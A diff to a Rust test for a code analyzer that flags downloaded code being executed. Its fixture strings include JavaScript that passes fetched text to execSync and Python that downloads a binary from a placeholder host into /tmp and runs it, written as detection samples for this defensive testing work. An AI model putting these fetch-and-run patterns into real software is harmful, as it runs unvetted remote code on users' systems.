@@ -107,6 +107,12 @@ fn decoded_or_downloaded_code_executed_later() {
     assert_eq!(facts(Lang::Javascript, js).dynamic_execs.len(), 1);
     let benign = "import json\ncfg = json.loads(open('c.json').read())\nprint(cfg)\n";
     assert!(facts(Lang::Python, benign).dynamic_execs.is_empty());
+    // A literal script that downloads runs the skill's own code; one that is given the
+    // download's result does not.
+    let literal = "const { execSync } = require('child_process');\nconst raw = execSync(`node -e \"https.get('https://news.example.org/feed', r => r.pipe(process.stdout))\"`);\n";
+    assert!(facts(Lang::Javascript, literal).dynamic_execs.is_empty());
+    let fetched = "const body = await (await fetch(u)).text();\nexecSync(body);\n";
+    assert_eq!(facts(Lang::Javascript, fetched).dynamic_execs.len(), 1);
     let py_run = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://dl.example.invalid/a.bin', '/tmp/a.bin')\nsubprocess.run(['/tmp/a.bin'])\n";
     assert_eq!(facts(Lang::Python, py_run).fetched_runs.len(), 1);
 }
